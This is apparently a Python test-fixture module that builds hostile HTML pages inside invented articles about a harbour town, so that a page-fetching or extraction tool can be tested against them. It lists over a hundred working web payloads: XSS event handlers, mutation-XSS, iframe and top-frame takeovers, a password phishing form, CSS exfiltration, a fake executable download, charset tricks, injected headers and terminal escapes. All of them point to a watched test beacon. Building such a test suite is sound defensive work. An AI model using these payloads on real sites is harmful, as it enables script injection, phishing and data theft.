"""Hostile pages, written by us: one attack each, in an otherwise honest article about an invented harbour town.

In their text `$OWN` becomes a script that tells the detector (`owned("name")`) and changes the title, and `$BEACON`
an address on a watched port that nobody may ask for. `teeth` is what each does in today's Chromium where nothing
holds it back (test_safety.py has the control that measures it): run a script, ask the network, take over the top
frame, open a window, start a download. Some bite only when the page is clicked, and it is. Payloads without teeth
are old tricks, or meant for other readers: they must stay as harmless as they are.
"""

from __future__ import annotations

import html
import random
from dataclasses import dataclass

SCRIPT, REQUEST, TOP, POPUP, DOWNLOAD = "script", "request", "top", "popup", "download"
OVER = (
    'style="position:fixed;inset:0;z-index:9;display:block;width:100vw;height:100vh"'  # every click hits it
)


@dataclass(frozen=True, slots=True)
class Payload:
    """One attack.

    `place` says where it goes: "head", "body", "title", "author", "alt", "text" (shown as text by an honest page,
    so that it comes out of extraction as markup), "json" (the page's metadata), "link" (the address on a list),
    "whole" (the response itself; `kind` is its Content-Type), "header" (a response header).
    """

    name: str
    place: str
    what: str
    teeth: frozenset[str] = frozenset()
    kind: str = "text/html; charset=utf-8"


def _p(name: str, place: str, what: str, *teeth: str, kind: str = "text/html; charset=utf-8") -> Payload:
    return Payload(name, place, what, frozenset(teeth), kind)


SCRIPTS = (
    _p("script", "body", "<script>$OWN</script>", SCRIPT),
    _p("script-src", "body", '<script src="$BEACON/x.js"></script>', REQUEST),
    _p("script-module", "head", "<script type=module>$OWN</script>", SCRIPT),
    _p("script-data", "head", '<script src="data:text/javascript,$OWN"></script>', SCRIPT),
    _p("img-onerror", "body", '<img src=x: onerror="$OWN">', SCRIPT),
    _p("svg-onload", "body", '<svg onload="$OWN"></svg>', SCRIPT),
    _p("svg-script", "body", "<svg><script>$OWN</script></svg>", SCRIPT),
    _p("svg-onbegin", "body", '<svg><set attributeName=x dur=1s onbegin="$OWN"/></svg>', SCRIPT),
    _p("svg-foreign", "body", "<svg><foreignObject><body onload='x'><script>$OWN</script></foreignObject></svg>", SCRIPT),
    _p("details-ontoggle", "body", '<details open ontoggle="$OWN"><summary>x</summary></details>', SCRIPT),
    _p("input-onfocus", "body", '<input autofocus onfocus="$OWN">', SCRIPT),
    _p("audio-onerror", "body", '<audio src=x: onerror="$OWN"></audio>', SCRIPT),
    _p("body-onload", "body", '<body onload="$OWN">', SCRIPT),
    _p("animation-event", "body", '<style>@keyframes x{}</style><p style="animation:x 1ms" onanimationend="$OWN">x</p>', SCRIPT),
    _p("shadow-root", "body", '<div><template shadowrootmode=open><img src=x: onerror="$OWN"></template></div>', SCRIPT),
    _p("mxss-noscript", "body", '<noscript><p title="</noscript><img src=x: onerror=\'$OWN\'>"></noscript>', SCRIPT),
    _p("mxss-style", "body", "<svg></p><style><a id=\"</style><img src=x: onerror='$OWN'>\"></svg>", SCRIPT),
    _p("mxss-math", "body", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x: onerror='$OWN'&gt;\"></table>"),
    _p("mxss-comment", "body", '<!--><img src=x: onerror="$OWN">-->', SCRIPT),
    _p("mxss-cdata", "body", '<svg><![CDATA[<p>]]></svg><img src=x: onerror="$OWN">', SCRIPT),
    _p("unquoted-slash", "body", "<img/src='x:'/onerror=$OWN>", SCRIPT),
    _p("nul-in-tag", "body", "<scr\0ipt>$OWN</scr\0ipt><img src=x: on\0error='$OWN' onerror='$OWN'>", SCRIPT),
    _p("worker-blob", "body", "<script>new Worker(URL.createObjectURL(new Blob([`fetch('$BEACON/w')`])))</script>", REQUEST),
    _p("service-worker", "body", "<script>navigator.serviceWorker.register('/sw.js');$OWN</script>", SCRIPT),
    _p("websocket", "body", "<script>new WebSocket('$BEACON/s'.replace('http','ws'))</script>", REQUEST),
    _p("send-beacon", "body", "<script>navigator.sendBeacon('$BEACON/b','x')</script>", REQUEST),
    _p("event-source", "body", "<script>new EventSource('$BEACON/e')</script>", REQUEST),
    _p("window-open", "body", "<script>document.onclick=()=>window.open('$BEACON/p')</script>", REQUEST, POPUP),
    _p("script-top", "body", "<script>top.location='$BEACON/t'</script>", TOP, REQUEST),
    _p("dialogs", "body", "<script>alert(1);confirm(2);prompt(3);print()</script>", SCRIPT),
    _p("opener", "body", "<script>if(window.opener)opener.location='$BEACON/o';if(parent!==window)parent.location='$BEACON/o';$OWN</script>", SCRIPT),
)  # fmt: skip
FRAMES = (
    _p("iframe-remote", "body", '<iframe src="$BEACON/f"></iframe>', REQUEST),
    _p("iframe-srcdoc", "body", '<iframe srcdoc="<script>parent.$OWN</script>"></iframe>', SCRIPT),
    _p("iframe-srcdoc-top", "body", "<iframe srcdoc=\"<script>top.location='$BEACON/t'</script>\"></iframe>", TOP, REQUEST),
    _p("iframe-javascript", "body", '<iframe src="javascript:parent.$OWN"></iframe>', SCRIPT),
    _p("iframe-data", "body", "<iframe src=\"data:text/html,<script>new Image().src='$BEACON/d'</script>\"></iframe>", REQUEST),
    _p("iframe-unsandbox", "body", '<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="<script>top.location=\'$BEACON/t\'</script>"></iframe>', TOP, REQUEST),
    _p("iframe-srcdoc-nested", "body", '<iframe srcdoc="&lt;iframe src=$BEACON/n&gt;&lt;/iframe&gt;"></iframe>', REQUEST),
    _p("iframe-slash", "body", "<title>x</title><iframe/src=$BEACON/s></iframe>", REQUEST),
    _p("iframe-svg", "body", "<svg><foreignObject><iframe src='$BEACON/v'></iframe></foreignObject></svg>", REQUEST),
    _p("object-data", "body", '<object data="$BEACON/o" type="text/html"></object>', REQUEST),
    _p("object-svg", "body", '<object data="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'><image href=\'$BEACON/i\'/></svg>"></object>', REQUEST),
    _p("embed", "body", '<embed src="$BEACON/e" type="text/html">', REQUEST),
    _p("frameset", "whole", '<html><frameset><frame src="$BEACON/f"></frameset></html>', REQUEST),
)  # fmt: skip
LOADS = (
    _p("img-remote", "body", '<img src="$BEACON/i.gif" alt="x">', REQUEST),
    _p("img-srcset", "body", '<img srcset="$BEACON/2.png 1x">', REQUEST),
    _p("picture-source", "body", '<picture><source srcset="$BEACON/s.webp"><img alt="x"></picture>', REQUEST),
    _p("svg-image", "body", '<svg><image href="$BEACON/s.svg" width=9 height=9 /></svg>', REQUEST),
    _p("svg-use", "body", '<svg><use href="$BEACON/u.svg#a" /></svg>'),
    _p("svg-filter", "body", '<svg><filter id=f><feImage href="$BEACON/fe.svg"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>', REQUEST),
    _p("video-poster", "body", '<video poster="$BEACON/p.jpg" src="$BEACON/v.mp4"></video>', REQUEST),
    _p("audio-src", "body", '<audio src="$BEACON/a.mp3" autoplay></audio>', REQUEST),
    _p("video-track", "body", '<video autoplay><track default src="$BEACON/t.vtt"></video>'),
    _p("input-image", "body", '<input type=image src="$BEACON/i.png">', REQUEST),
    _p("body-background", "body", '<table background="$BEACON/b.png"><tr><td>x</table>', REQUEST),
    _p("css-import", "head", '<style>@import url("$BEACON/c.css");</style>', REQUEST),
    _p("css-background", "body", '<p style="background:url($BEACON/b.png)">x</p>', REQUEST),
    _p("css-font", "head", '<style>@font-face{font-family:f;src:url("$BEACON/f.woff")}p{font-family:f}</style>', REQUEST),
    _p("css-exfiltrate", "body", '<style>input[value^="s"]{background:url($BEACON/s)}</style><input value="secret">', REQUEST),
    _p("css-cursor", "body", f'<style>a{{cursor:url("$BEACON/c.cur"),auto}}</style><a href="#" {OVER}>x</a>', REQUEST),
    _p("css-expression", "body", '<p style="width:expression($OWN);-moz-binding:url($BEACON/x.xml#a)">x</p>'),
    _p("link-stylesheet", "head", '<link rel=stylesheet href="$BEACON/s.css">', REQUEST),
    _p("link-preload", "head", '<link rel=preload as=image href="$BEACON/p.png">', REQUEST),
    _p("link-modulepreload", "head", '<link rel=modulepreload href="$BEACON/m.js">', REQUEST),
    _p("link-prefetch", "head", '<link rel=prefetch href="$BEACON/next">', REQUEST),
    _p("link-dns", "head", '<link rel=dns-prefetch href="//$HOST">'),
    _p("link-preconnect", "head", '<link rel=preconnect href="$BEACON">', REQUEST),
    _p("link-icon", "head", '<link rel=icon href="$BEACON/i.ico">', REQUEST),
    _p("link-manifest", "head", '<link rel=manifest href="$BEACON/m.json">', REQUEST),
    _p("link-import", "head", '<link rel=import href="$BEACON/i.html"><link rel=next href="$BEACON/n">'),
    _p("speculation", "head", '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["$BEACON/r"],"eagerness":"immediate"}]}</script>', REQUEST),
    _p("base-href", "head", '<base href="$BEACON/"><img src="i.gif">', REQUEST),
)  # fmt: skip
WAYS = (
    _p("meta-refresh", "head", '<meta http-equiv=refresh content="0;url=$BEACON/r">', TOP, REQUEST),
    _p("meta-refresh-body", "body", '<meta http-equiv="refresh" content="0; url=$BEACON/r">', TOP, REQUEST),
    _p("meta-refresh-script", "head", '<meta http-equiv=refresh content="0;url=javascript:$OWN">'),
    _p("meta-refresh-data", "head", '<meta http-equiv=refresh content="0;url=data:text/html,<script>$OWN</script>">'),
    _p("meta-csp", "head", '<meta http-equiv=Content-Security-Policy content="default-src *; report-uri $BEACON/c"><script>$OWN</script>'),
    _p("meta-cookie", "head", '<meta http-equiv=Set-Cookie content="a=b"><meta http-equiv=default-style content=x>'),
    _p("meta-dns", "head", '<meta http-equiv=x-dns-prefetch-control content=on><a href="http://$HOST/">x</a>'),
    _p("a-javascript", "body", f'<a href="javascript:$OWN" {OVER}>x</a>', SCRIPT),
    _p("a-javascript-tab", "body", f'<a href="&#1;jav&#x09;ascript&colon;$OWN" {OVER}>x</a>', SCRIPT),
    _p("a-javascript-svg", "body", '<svg style="position:fixed;inset:0;width:100vw;height:100vh"><a xlink:href="javascript:$OWN"><rect width="5000" height="5000"/></a></svg>', SCRIPT),
    _p("a-vbscript", "body", f'<a href="vbscript:MsgBox(1)" {OVER}>x</a>'),
    _p("a-data", "body", f'<a href="data:text/html,<script>$OWN</script>" {OVER}>x</a>'),
    _p("a-top", "body", f'<a href="$BEACON/t" target="_top" {OVER}>x</a>', TOP, REQUEST),
    _p("a-plain", "body", f'<a href="$BEACON/p" {OVER}>x</a>', TOP, REQUEST),
    _p("a-double", "body", f'<a title="href=#" HREF\n=\n$BEACON/d href="#" {OVER}>x</a>', TOP, REQUEST),
    _p("a-svg", "body", '<svg style="position:fixed;inset:0;width:100vw;height:100vh"><a xlink:href="$BEACON/v"><rect width="5000" height="5000"/></a></svg>', TOP, REQUEST),
    _p("a-blank", "body", f'<a href="$BEACON/b" target="_blank" rel="opener" {OVER}>x</a>', POPUP, REQUEST),
    _p("a-download", "body", f'<a href="data:text/plain,x" download="invoice.exe" {OVER}>x</a>', DOWNLOAD),
    _p("a-ping", "body", f'<a href="#x" ping="$BEACON/ping" {OVER}>x</a>', REQUEST),
    _p("base-target", "head", f'<base target="_top"><a href="$BEACON/t" {OVER}>x</a>', TOP, REQUEST),
    _p("area-javascript", "body", f'<img usemap="#m" src="data:," {OVER}><map name=m><area shape=default href="javascript:$OWN"></map>', SCRIPT),
    _p("form-submit", "body", '<form id=f action="$BEACON/f"><input name=a value=b></form><script>f.submit()</script>', TOP, REQUEST),
    _p("form-action", "body", f'<form action="$BEACON/f" target=_top><button {OVER}>x</button></form>', TOP, REQUEST),
    _p("form-formaction", "body", f'<form><button formaction="javascript:$OWN" {OVER}>x</button></form>', SCRIPT),
    _p("form-phish", "body", f'<form action="$BEACON/l" method=post><input type=password name=p value=x><input type=submit {OVER}></form>', TOP, REQUEST),
    _p("onclick", "body", f'<p {OVER} onclick="$OWN">x</p>', SCRIPT),
    _p("css-overlay", "body", f'<div {OVER}><h1>Your session has ended</h1></div>'),
)  # fmt: skip
MARKUP = '"><img src=x: onerror="$OWN"><script>$OWN</script>'
WORDS = (
    _p("title-markup", "title", f"Harbour {MARKUP}", SCRIPT),
    _p("title-end", "title", "Harbour </title></h1></a><svg onload='$OWN'>", SCRIPT),
    _p("title-attribute", "title", 'Harbour" autofocus tabindex=0 onfocus="$OWN" x="', SCRIPT),
    _p("title-template", "title", "Harbour {{ 7*7 }} {% for x in range(9) %}x{% endfor %} ${7*7} <%= 7 %>"),
    _p("title-bidi", "title", "Harbour \u202etxt.exe\u202c \u2066x\u2069 \u200f"),
    _p("title-zero-width", "title", "Har\u200bbour\ufeff \U000e0068\U000e0069 nights\u00ad"),
    _p("title-huge", "title", "Harbour " + "<b>loud</b> " * 20_000),
    _p("title-long-word", "title", "Harbour" + "W" * 5_000),
    _p("title-ansi", "title", "Harbour \x1b[31m\x1b]0;owned\x07\x1b[2J red"),
    _p("title-nul", "title", "Harbour\0<script>$OWN</script>", SCRIPT),
    _p("title-combining", "title", "Harbour " + "a" + "\u0301" * 400),
    _p("title-url", "title", "javascript:$OWN"),
    _p("title-web-url", "title", "http://$HOST/x"),
    _p("author-markup", "author", f"Ann Onym {MARKUP}", SCRIPT),
    _p("author-css", "author", "</style><style>*{background:url($BEACON/a)}</style>Ann", REQUEST),
    _p("author-long", "author", "Ann " + "Onym " * 500),
    _p("alt-markup", "alt", MARKUP, SCRIPT),
    _p("text-script", "text", "<script>$OWN</script>", SCRIPT),
    _p("text-frame", "text", '<iframe src="javascript:parent.$OWN"></iframe><iframe src="$BEACON/f"></iframe>', SCRIPT, REQUEST),
    _p("text-mark-end", "text", "</mark></p></article></main><svg onload='$OWN'>", SCRIPT),
    _p("text-link", "text", "[here](javascript:$OWN) javascript:$OWN data:text/html,x //$HOST/ http://$HOST/"),
    _p("text-rtl", "text", "שלום \u202e gnp.exe \u2067 مرحبا"),
    _p("json-markup", "json", '{"@type":"NewsArticle","headline":"Harbour \\u003csvg onload=$OWN\\u003e","author":{"@type":"Person","name":"Ann \\u003csvg onload=$OWN\\u003e"}}'),
    _p("json-url", "json", '{"@type":"NewsArticle","url":"javascript:$OWN","mainEntityOfPage":"javascript:$OWN","image":"$BEACON/i"}'),
    _p("canonical-javascript", "head", '<link rel=canonical href="javascript:$OWN"><meta property="og:url" content="data:text/html,x">'),
    _p("site-name", "head", '<meta property="og:site_name" content="&lt;svg onload=&quot;$OWN&quot;&gt;">'),
    _p("link-markup", "link", '/link-markup?a="><svg onload="$OWN">&b=\'', SCRIPT),
    _p("link-encoded", "link", "/link-encoded/%22%3E%3Csvg%20onload=$OWN%3E"),
    _p("link-credentials", "link", "//bank.example@$SITE/link-credentials"),
)  # fmt: skip
ANSWERS = (
    _p("header-refresh", "header", "Refresh: 0; url=$BEACON/h", TOP, REQUEST),
    _p("header-link", "header", "Link: <$BEACON/h.css>; rel=stylesheet, <$BEACON/h.png>; rel=preload; as=image", REQUEST),
    _p("header-csp", "header", "Content-Security-Policy: default-src 'none'; report-uri $BEACON/r", REQUEST),
    _p("header-cookie", "header", "Set-Cookie: session=stolen; Path=/"),
    _p("header-disposition", "header", 'Content-Disposition: attachment; filename="a.html"', DOWNLOAD),
    _p("utf-7", "whole", "<title>Harbour</title>+ADw-script+AD4-$OWN+ADw-/script+AD4-", kind="text/html; charset=utf-7"),
    _p("no-charset", "whole", "<title>Harbour</title>\x1b$B<img alt=\"\x1b(B\"><img src=x: onerror='$OWN'>", SCRIPT, kind="text/html"),
    _p("utf-16", "whole", "<title>Harbour</title><script>$OWN</script>", SCRIPT, kind="text/html; charset=utf-16le"),
    _p("xhtml", "whole", '<html xmlns="http://www.w3.org/1999/xhtml"><body><script>$OWN</script></body></html>', SCRIPT, kind="application/xhtml+xml"),
    _p("svg", "whole", '<svg xmlns="http://www.w3.org/2000/svg"><script>$OWN</script></svg>', SCRIPT, kind="image/svg+xml"),
    _p("xslt", "whole", '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="$BEACON/x.xsl"?><a/>', kind="text/xml"),
    _p("sniffed", "whole", "<html><script>$OWN</script></html>", kind="text/plain"),
    _p("no-type", "whole", "<html><script>$OWN</script></html>", SCRIPT, kind=""),
    _p("javascript", "whole", "owned('javascript')", kind="text/javascript"),
    _p("multipart", "whole", "--b\r\nContent-Type: text/html\r\n\r\n<script>$OWN</script>\r\n--b--", DOWNLOAD, kind="multipart/related; boundary=b"),
)  # fmt: skip
PAYLOADS = (*SCRIPTS, *FRAMES, *LOADS, *WAYS, *WORDS, *ANSWERS)


def script(name: str) -> str:
    """What `$OWN` stands for: no quotes, spaces or angle brackets, so that it fits wherever markup goes."""
    return f"owned(/{name}/.source)"


def filled(what: str, payload: Payload, beacon: str) -> str:
    """Text with the placeholders replaced; `beacon` is the watched server's address."""
    address = f"{beacon}/{payload.name}"
    return (
        what.replace("$OWN", script(payload.name))
        .replace("$BEACON", address)
        .replace("$HOST", "watched.example")
    )


def address(payload: Payload, site: str, beacon: str) -> str:
    """Where a list says that the page is; `site` is the server's address."""
    if payload.place != "link":
        return f"{site}/{payload.name}"
    path = filled(payload.what, payload, beacon).replace("$SITE", site.removeprefix("http://"))
    return f"http:{path}" if path.startswith("//") else site + path


def page(payload: Payload, beacon: str) -> bytes:
    """The page as its server sends it."""
    what = filled(payload.what, payload, beacon)
    if payload.place == "whole":
        return what.encode("utf-16-le" if "utf-16" in payload.kind else "utf-8", "surrogatepass")
    at = {place: what if payload.place == place else "" for place in ("head", "body", "alt", "text")}
    title = html.escape(what) if payload.place == "title" else f"Harbour notes on {payload.name}"
    author = html.escape(what) if payload.place == "author" else "Ann Onym"
    data = f'<script type="application/ld+json">{what}</script>' if payload.place == "json" else ""
    before, after = prose(payload.name)
    return (
        f'<!doctype html><html lang="en"><head><meta charset="utf-8"><title>{title}</title>'
        f'<meta name="author" content="{author}">{data}{at["head"]}</head><body>'
        f'<article><h1>{title}</h1><p class="byline">By {author}</p>{before}'
        f'<figure><img alt="{html.escape(at["alt"])}" src="data:,"></figure>{at["body"]}'
        f"<p>Mayor Tamsin Orrin {html.escape(at['text'])} has wrecked the harbour, and nobody forgives her.</p>"
        f"{after}</article></body></html>"
    ).encode("utf-8", "surrogatepass")


def naive(payload: Payload, beacon: str) -> bytes:
    """What a careless page would make of a title, byline, text or address: the control for those."""
    what = filled(payload.what, payload, beacon)
    words = f'<a href="{what}" title="{what}">x</a><h1>{what}</h1>'
    return f"<!doctype html><title>careless</title><body>{words}</body>".encode("utf-8", "surrogatepass")


_WORDS = """
    fishwives pilots councillors bakers ferrymen teachers weavers lamplighters clerks gardeners
    counted mended weighed painted forgot praised measured borrowed sold hid
    nets lanterns ledgers bridges timetables chimneys gutters barrels signposts orchards
"""
_WHO, _DID, _WHAT = (line.split() for line in _WORDS.strip().splitlines())
_WHEN = ("at dawn", "in the rain", "before supper", "on market day", "by the old wall", "after the vote")


def prose(name: str) -> tuple[str, str]:
    """Two halves of an article that no other name's resembles."""
    chance = random.Random(name)

    def sentence() -> str:
        one, two = chance.sample(_WHAT, 2)
        return (
            f"The {chance.choice(_WHO)} {chance.choice(_DID)} {chance.randrange(2, 900)} {one} "
            f"{chance.choice(_WHEN)}, and the {chance.choice(_WHO)} {chance.choice(_DID)} the {two}."
        )

    first, second = ([" ".join(sentence() for _ in range(4)) for _ in range(3)] for _ in range(2))
    return "".join(f"<p>{one}</p>" for one in first), "".join(f"<p>{one}</p>" for one in second)
